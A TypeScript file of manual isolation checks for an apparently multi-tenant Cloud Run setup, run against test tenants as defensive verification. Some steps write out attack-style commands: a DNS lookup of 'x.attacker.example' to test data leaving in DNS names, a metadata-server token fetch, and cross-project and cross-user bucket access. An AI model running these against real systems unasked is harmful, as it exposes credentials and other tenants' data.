/** Checks that need a shell in a tenant's app, a browser or an update: steps for a person. */
import type { CloudCheck } from "./cloudCheck";

const shell = "in a test tenant's app, for instance from a route that runs a command:";

export const strangersApis: CloudCheck = {
  id: "T2",
  asks: "What can a taken-over app reach through the one address range that it has?",
  how: `${shell} 'curl -m 5 -o /dev/null -w %{http_code} https://storage.googleapis.com/storage/v1/b/BUCKET' with the token and the bucket of another project, then a public service of that project by address, since its name does not resolve: 'curl --resolve HOST:443:199.36.153.4 https://HOST'`,
  says: "docs/prove.md",
  source: "https://cloud.google.com/vpc-service-controls/docs/private-connectivity",
  means: {
    "as documented":
      "without an enforced perimeter the bucket answers 200: 'prove' says so, too. With one both are refused",
    otherwise:
      "the bucket answers inside an enforced perimeter: the way out is open, see 'A perimeter, from dry run to enforced' in docs/deploy.md",
    unseen: "the app has no shell; use the tenant of examples/typescript with an image of yours",
  },
};

export const keysOfIap: CloudCheck = {
  id: "T3",
  asks: "Does an app get the public keys of Identity-Aware Proxy?",
  how: `${shell} 'curl -m 5 https://www.gstatic.com/iap/verify/public_key'`,
  says: "docs/sessions.md",
  source: "https://cloud.google.com/vpc/docs/configure-private-google-access",
  means: {
    "as documented": "JSON with keys: an app can check who logged in",
    otherwise:
      "no answer: an app with 'sessions' lets nobody in, since it checks the login's signature; another has to trust the header that Cloud Run sets",
    unseen: "the app has no shell",
  },
};

export const namesThatResolve: CloudCheck = {
  id: "T6",
  asks: "Does DNS carry anything out, and do the names that are needed resolve?",
  how: `${shell} 'dig TXT x.attacker.example', 'dig AAAA …', 'dig MX …', 'dig storage.googleapis.com', 'dig run.app'; once more after 2027-01-05`,
  says: "docs/architecture.md",
  source: "https://cloud.google.com/dns/docs/vpc-name-res-order",
  means: {
    "as documented":
      "no foreign name gets an answer of its own, and Google's names lead to 199.36.153.4 to .7, before and after the date",
    otherwise: "a foreign name is answered: data can leave in names. Or a needed name is gone: the app loses its APIs",
    unseen: "the image has no 'dig'",
  },
};

export const peopleOfOthers: CloudCheck = {
  id: "T7",
  asks: "Who gets through Identity-Aware Proxy?",
  how: "log in to a test tenant as somebody of your organisation and of another one, without and with 'access.oauth'",
  says: "docs/deploy.md",
  source: "https://cloud.google.com/iap/docs/custom-oauth-configuration",
  means: {
    "as documented": "without 'access.oauth' only your own people get in, with it all members do",
    otherwise:
      "a member is refused with 'access.oauth': look at the consent screen, whose user type must be 'external'",
    unseen: "nobody of another organisation is at hand",
  },
};

export const orderOfSignals: CloudCheck = {
  id: "T9",
  asks: "Which container of an instance gets SIGTERM first?",
  how: "have a test app log the time of SIGTERM and send an event to RELAY_URL; deploy a new revision; compare with the relay's line",
  says: "docs/sdks.md",
  source: "https://cloud.google.com/run/docs/container-contract",
  means: {
    "as documented": "the event arrives: the relay listens until the app's connections have ended",
    otherwise: "the app meets a closed port: flush before each response instead of at the end",
    unseen: "the instance was ended without a signal",
  },
};

export const removedByMistake: CloudCheck = {
  id: "T11",
  asks: "Does removing a live tenant's entry stop in the preview?",
  how: "remove a test tenant that is 'active' from the configuration and run 'pulumi preview'; put it back",
  says: "docs/deploy.md",
  source: "https://www.pulumi.com/docs/iac/concepts/resources/options/protect/",
  means: {
    "as documented":
      "the preview fails with 'must be 'closing' in an update before the tenant is removed', and nothing has changed",
    otherwise: "the preview is clean: don't run 'up'. Look whether an update without '--ignore-protect' was ever made",
    unseen: "there is no test tenant",
  },
};

export const takenDown: CloudCheck = {
  id: "T12",
  asks: "How long do the subnets outlive the last service?",
  how: "take a test cell down as the page says, and time 'pulumi destroy' from the last service to the last subnet",
  says: "docs/deploy.md",
  source: "https://cloud.google.com/run/docs/configuring/vpc-direct-vpc",
  means: {
    "as documented": "one to two hours, then 'pulumi destroy' goes through",
    otherwise: "longer: 'gcloud compute networks subnets describe' says what still uses them",
    unseen: "there is no test cell",
  },
};

export const coldChain: CloudCheck = {
  id: "T15",
  asks: "How long does the first request of an idle tenant take, through login, app, relay, proxy and NAT?",
  how: "leave a test tenant alone for 20 minutes, then time one request that sends an event and wait for it at the vendor",
  says: "docs/performance.md",
  source: "https://cloud.google.com/run/docs/configuring/vpc-direct-vpc",
  means: {
    "as documented": "up to a minute, and the event arrives: SDKs repeat what a cold proxy answers with 503",
    otherwise: "the event is lost: the SDK gave up. Keep one instance of the proxy, or flush with repetition",
    unseen: "no vendor to look at",
  },
};

export const tokensOfOneFolder: CloudCheck = {
  id: "T16",
  asks: "Does the token of a user's session open that user's folder and nothing else?",
  how: `in a session of a test tenant with 'bucket: "tokens"', for instance from a route that runs a command: 'curl -H Metadata-Flavor:Google http://$GCE_METADATA_HOST/computeMetadata/v1/instance/service-accounts/default/token' and the same for '…/instance/attributes/user-folder'; with that token 'curl -H "Authorization: Bearer TOKEN" "https://storage.googleapis.com/storage/v1/b/$BUCKET/o?prefix=FOLDER"', then with 'users/', with another user's folder, and of another bucket`,
  says: "docs/sessions.md",
  source: "https://cloud.google.com/iam/docs/downscoping-short-lived-credentials",
  means: {
    "as documented": "the user's own folder answers 200, all else 403; with an enforced perimeter, too",
    otherwise:
      "another folder or bucket answers: use 'bucket: perUser'. Or no token is made (503): look at the proxy's log, and whether the API of the Security Token Service is on and 'sts.googleapis.com' in 'egressHosts'",
    unseen: "no tenant has 'bucket: \"tokens\"', or the app has no shell",
  },
};
